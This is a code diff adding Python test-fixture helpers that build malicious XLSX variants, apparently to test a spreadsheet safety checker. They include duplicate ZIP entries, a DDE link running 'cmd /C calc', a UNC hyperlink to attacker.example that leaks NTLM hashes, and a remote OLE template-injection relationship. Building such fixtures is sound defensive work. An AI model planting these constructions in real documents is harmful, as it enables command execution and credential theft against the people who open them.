@@ -5,6 +5,7 @@ from __future__ import annotations
 import io
 import random
 import re
+import warnings
 import zipfile
 from collections.abc import Callable
 
@@ -180,3 +181,146 @@ def encrypted(data: bytes) -> bytes:
     out = io.BytesIO()
     OOXMLFile(io.BytesIO(data)).encrypt("secret", out)
     return out.getvalue()
+
+
+def with_duplicate_entry(data: bytes, part: str = "xl/workbook.xml") -> bytes:
+    """A second entry of the same name after the first: zipfile reads the last, Excel the first."""
+    first = zipfile.ZipFile(io.BytesIO(data)).read(part)
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")  # zipfile warns "Duplicate name" and writes it anyway
+        return with_member(data, part, first.replace(b"<sheet ", b'<sheet state="hidden" ', 1))
+
+
+def with_duplicate_entry_by_case(data: bytes) -> bytes:
+    """Part names are case-insensitive in OPC: XL/Workbook.xml is xl/workbook.xml again."""
+    return with_member(data, "XL/Workbook.xml", zipfile.ZipFile(io.BytesIO(data)).read("xl/workbook.xml"))
+
+
+def with_entry(name: str) -> Callable[[bytes], bytes]:
+    return lambda data: with_member(data, name, b"<x/>")
+
+
+_RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
+_OFFICE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def _add_relationship(data: bytes, rels_part: str, rel_type: str, target: str, external: bool) -> bytes:
+    mode = ' TargetMode="External"' if external else ""
+    rel = f'<Relationship Id="rId99" Type="{rel_type}" Target="{target}"{mode}/>'
+
+    def change(name: str, body: bytes) -> bytes:
+        if name == rels_part:
+            return body.replace(b"</Relationships>", rel.encode() + b"</Relationships>")
+        return body
+
+    names = zipfile.ZipFile(io.BytesIO(data)).namelist()
+    if rels_part in names:
+        return rezip(data, change)
+    return rezip(data, add={rels_part: f'<Relationships xmlns="{_RELS_NS}">{rel}</Relationships>'})
+
+
+def with_dde_external_link(data: bytes) -> bytes:
+    """As Excel saves a DDE formula (=cmd|' /C calc'!A0): an externalLink part with a ddeLink,
+    referenced from the workbook's relationships and <externalReferences>."""
+    link = (
+        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+        '<ddeLink ddeService="cmd" ddeTopic=" /C calc"><ddeItems><ddeItem name="A0" advise="1"/>'
+        "</ddeItems></ddeLink></externalLink>"
+    )
+
+    def change(name: str, body: bytes) -> bytes:
+        if name == "xl/workbook.xml":
+            return body.replace(
+                b"</sheets>",
+                b'</sheets><externalReferences><externalReference r:id="rId99"/></externalReferences>',
+            )
+        if name == "[Content_Types].xml":
+            return body.replace(
+                b"</Types>",
+                b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType='
+                b'"application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>',
+            )
+        return body
+
+    linked = rezip(data, change, add={"xl/externalLinks/externalLink1.xml": link})
+    return _add_relationship(
+        linked,
+        "xl/_rels/workbook.xml.rels",
+        f"{_OFFICE_REL}/externalLink",
+        "externalLinks/externalLink1.xml",
+        False,
+    )
+
+
+def with_external_link_relationship_only(data: bytes) -> bytes:
+    """A link to another workbook on a share, declared only in the workbook's relationships."""
+    return _add_relationship(
+        data, "xl/_rels/workbook.xml.rels", f"{_OFFICE_REL}/externalLinkPath", "book2.xlsx", True
+    )
+
+
+def with_unc_hyperlink(data: bytes, sheet: str) -> bytes:
+    """A cell hyperlink to a UNC path, made by openpyxl: Windows fetches it (and sends the user's
+    NTLM hash) when the link is followed or previewed."""
+    from openpyxl import load_workbook
+
+    book = load_workbook(io.BytesIO(data))
+    book[sheet]["O4"].hyperlink = r"\\attacker.example\share\说明.docx"
+    out = io.BytesIO()
+    book.save(out)
+    return out.getvalue()
+
+
+def with_ole_object(data: bytes) -> bytes:
+    """An embedded OLE object (a packaged file) on the first sheet, as Excel's 插入 → 对象 saves it."""
+    part = first_sheet_part(data)
+    rels = part.replace("worksheets/", "worksheets/_rels/") + ".rels"
+    embedded = rezip(data, add={"xl/embeddings/oleObject1.bin": OLE_HEADER + bytes(1000)})
+    return _add_relationship(
+        embedded, rels, f"{_OFFICE_REL}/oleObject", "../embeddings/oleObject1.bin", False
+    )
+
+
+def with_remote_ole_relationship(data: bytes) -> bytes:
+    """An OLE object whose target is a remote address (template injection), no embedded part."""
+    part = first_sheet_part(data)
+    rels = part.replace("worksheets/", "worksheets/_rels/") + ".rels"
+    return _add_relationship(data, rels, f"{_OFFICE_REL}/oleObject", "http://attacker.example/x.doc", True)
+
+
+OLE_HEADER = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
+
+
+def with_cells(sheet: str, refs: list[str], value=1) -> Callable[[bytes], bytes]:
+    """The workbook with `value` written by openpyxl at each of `refs` of `sheet` (created if new)."""
+
+    def make(data: bytes) -> bytes:
+        from openpyxl import load_workbook
+
+        book = load_workbook(io.BytesIO(data))
+        ws = book[sheet] if sheet in book.sheetnames else book.create_sheet(sheet)
+        for ref in refs:
+            ws[ref] = value
+        out = io.BytesIO()
+        book.save(out)
+        return out.getvalue()
+
+    return make
+
+
+def with_dimension(data: bytes, part: str, ref: str) -> bytes:
+    """A sheet whose <dimension> claims `ref` (its cells unchanged): a lying extent."""
+    pattern = re.compile(rb"<dimension\b[^>]*>")
+    return rezip(
+        data, lambda n, b: pattern.sub(f'<dimension ref="{ref}"/>'.encode(), b, 1) if n == part else b
+    )
+
+
+def with_rows(data: bytes, part: str, first: int, count: int, col: str = "O") -> bytes:
+    """`count` real rows of text from row `first` on, written into the sheet XML (zipfile): what
+    200,000 pasted rows look like, made in a second instead of openpyxl's minutes."""
+    rows = "".join(
+        f'<row r="{r}"><c r="{col}{r}" t="inlineStr"><is><t>第{r}行</t></is></c></row>'
+        for r in range(first, first + count)
+    ).encode()
+    return rezip(data, lambda n, b: b.replace(b"</sheetData>", rows + b"</sheetData>") if n == part else b)
